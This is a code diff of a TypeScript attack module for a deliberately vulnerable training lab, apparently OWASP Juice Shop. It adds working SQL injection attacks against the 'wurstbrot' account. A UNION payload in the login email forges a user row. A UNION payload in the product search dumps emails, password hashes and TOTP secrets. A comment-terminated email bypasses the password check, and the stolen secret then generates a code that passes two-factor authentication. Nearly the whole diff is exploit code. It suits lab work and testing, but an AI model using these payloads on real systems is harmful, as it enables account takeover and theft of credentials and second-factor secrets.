@@ -1,15 +1,51 @@
 import type { Attack, Tools } from '#lab'
-import { logInAs, ownerOf } from './injection.ts'
-import { codeFor } from './totp.ts'
+
+/** All columns of Users in the order of the table, some of them replaced. */
+function columns(replaced: Record<string, string>): string {
+  const names =
+    'id username email password role deluxeToken lastLoginIp profileImage totpSecret isActive createdAt updatedAt deletedAt'
+  return names
+    .split(' ')
+    .map((name) => replaced[name] ?? name)
+    .join(',')
+}
+
+/** Logs in with a row made of an account's own and what is replaced in it; returns the token. */
+async function logInAs(tools: Tools, who: string, replaced: Record<string, string>): Promise<string> {
+  const { http, expect, settings } = tools
+  const address = `${who}@${settings.domain}`
+  const email = `' UNION SELECT ${columns(replaced)} FROM Users WHERE email='${address}'--`
+  const answer = await http.post('/rest/user/login', { email, password: 'a' })
+  expect(answer.status === 200, `the login answered with ${answer.status}`)
+  return answer.json<{ authentication: { token: string } }>().authentication.token
+}
+
+/** What a token says of its owner. */
+function ownerOf(token: string): Record<string, unknown> {
+  const payload = token.split('.')[1] ?? ''
+  return JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/'))).data
+}
 
 /** Gets past the password by injection, and past the second factor with a code for this secret. */
-async function passWith({ http, expect, settings }: Tools, secret: string): Promise<void> {
+async function passWith({ http, authenticator, expect, settings }: Tools, secret: string): Promise<void> {
   const email = `wurstbrot@${settings.domain}`
   const login = await http.post('/rest/user/login', { email: `${email}'--`, password: 'a' })
   expect(login.status === 401, `the login answered with ${login.status}`)
   const { tmpToken } = login.json<{ data: { tmpToken: string } }>().data
-  const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken: await codeFor(secret) })
+  const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken: await authenticator(secret) })
   expect(answer.status === 200, `the code was answered with ${answer.status}`)
+}
+
+/** Has the search show the accounts as if they were products, with the secret in the place of the picture. */
+async function secretInSearch({ http, expect, settings }: Tools): Promise<string> {
+  const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
+  const answer = await http.get(`/rest/products/search?q=${encodeURIComponent(union)}`)
+  expect(answer.status === 200, `the search answered with ${answer.status}`)
+  const rows = answer.json<{ data: Record<string, unknown>[] }>().data
+  const row = rows.map(Object.values).find((values) => values.includes(`wurstbrot@${settings.domain}`))
+  const secret = row?.find((value) => /^[A-Z2-7]{32}$/.test(String(value)))
+  expect(secret !== undefined, 'his secret is not among what was found')
+  return String(secret)
 }
 
 /** Has the login write the secret into a token, in the place of the name. */
@@ -46,7 +82,12 @@ const challenge = 'twoFactorAuthUnsafeSecretStorageChallenge'
 export const attacks: Attack[] = [
   {
     challenge,
-    name: 'a UNION brings the secret out, an authenticator turns it into a code',
+    name: 'the search shows the secret, an authenticator turns it into a code',
+    run: async (tools) => passWith(tools, await secretInSearch(tools)),
+  },
+  {
+    challenge,
+    name: 'a UNION in the login brings the secret out, an authenticator turns it into a code',
     run: async (tools) => passWith(tools, await secretInToken(tools)),
   },
   {
